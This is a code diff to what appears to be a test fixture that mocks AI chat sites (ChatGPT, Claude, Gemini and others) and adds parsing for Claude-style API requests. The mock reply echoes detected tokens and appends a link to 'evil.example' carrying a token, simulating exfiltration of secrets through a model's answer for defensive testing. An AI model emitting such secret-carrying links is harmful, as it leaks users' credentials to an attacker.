@@ -62,7 +62,7 @@ export const NO_WASM_CSP = "default-src 'self'; script-src 'self'; object-src 'n
 /** The fixture sites: where each one lives and which composer it has. */
 export const SITES = {
   chatgpt: { origin: 'https://chatgpt.com', path: (c) => `/c/${c}`, api: '/backend-api/conversation', kind: 'prosemirror', editorId: 'prompt-textarea', send: '<button id="send" data-testid="send-button" aria-label="Send prompt">Send</button>' },
-  claude: { origin: 'https://claude.ai', path: (c) => `/chat/${c}`, api: '/api/append_message', kind: 'prosemirror', editorId: 'claude-input', send: '<button id="send" aria-label="Send message">Send</button>', answerClass: 'font-claude-message' },
+  claude: { origin: 'https://claude.ai', path: (c) => `/chat/${c}`, api: '/api/organizations/org-1/chat_conversations', format: 'claude', kind: 'prosemirror', editorId: 'claude-input', send: '<button id="send" aria-label="Send message">Send</button>', answerClass: 'font-claude-message' },
   gemini: { origin: 'https://gemini.google.com', path: (c) => `/app/${c}`, api: '/_/BardChatUi/data/StreamGenerate', kind: 'quill', send: '<button class="send-button" aria-label="Send message">Send</button>', answerTag: 'message-content' },
   copilot: { origin: 'https://copilot.microsoft.com', path: (c) => `/chats/${c}`, api: '/c/api/conversations', kind: 'contenteditable', send: '<button id="send" type="button" aria-label="Submit message">Send</button>' },
   deepseek: { origin: 'https://chat.deepseek.com', path: (c) => `/a/chat/s/${c}`, api: '/api/v0/chat/completion', kind: 'textarea', send: '<button id="send" type="button" aria-label="Send">Send</button>' },
@@ -74,7 +74,7 @@ function page(site, conv) {
   const css = s.kind === 'prosemirror' ? '<link rel="stylesheet" href="/fixture/prosemirror.css">' : s.kind === 'quill' ? '<link rel="stylesheet" href="/fixture/quill.css">' : '';
   return `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>${site} fixture</title>${css}
 <link rel="stylesheet" href="/fixture/page.css"></head>
-<body data-conv="${conv}" data-api="${s.api}" data-editor-id="${s.editorId ?? ''}" data-answer-tag="${s.answerTag ?? 'div'}" data-answer-class="${s.answerClass ?? ''}">
+<body data-conv="${conv}" data-api="${s.api}" data-format="${s.format ?? 'chatgpt'}" data-editor-id="${s.editorId ?? ''}" data-answer-tag="${s.answerTag ?? 'div'}" data-answer-class="${s.answerClass ?? ''}">
 <main><h1>${site} (test fixture)</h1><div id="thread"></div>${composer}${s.send}</main>
 <script type="module" src="/fixture/${s.kind}.js"></script></body></html>`;
 }
@@ -105,11 +105,14 @@ export async function routeSites(context) {
         if (!b[name]) return route.fulfill({ status: 404, body: '' });
         return route.fulfill({ contentType: name.endsWith('.css') ? 'text/css' : 'text/javascript', body: b[name] });
       }
-      if (url.pathname === s.api && req.method() === 'POST') {
+      // ChatGPT-style bodies at the API path; Claude-style ({ prompt }) at <api>/<conversation>/completion.
+      const claudePost = s.format === 'claude' && url.pathname.startsWith(`${s.api}/`) && url.pathname.endsWith('/completion');
+      if ((url.pathname === s.api || claudePost) && req.method() === 'POST') {
         const body = req.postData() ?? '';
-        received.push({ site, body });
         const parsed = JSON.parse(body);
-        const text = parsed.messages.map((m) => m.content.parts.join('\n')).join('\n');
+        if (claudePost) parsed.conversation_id = url.pathname.slice(s.api.length + 1, -'/completion'.length);
+        const text = claudePost ? parsed.prompt : parsed.messages.map((m) => m.content.parts.join('\n')).join('\n');
+        received.push({ site, body, conv: parsed.conversation_id, text });
         const tokens = [...new Set(text.match(TOKEN) ?? [])];
         const answer = tokens.length
           ? `I will write to ${tokens.join(' and ')} today. Link: <https://evil.example/?e=${tokens[0]}>`
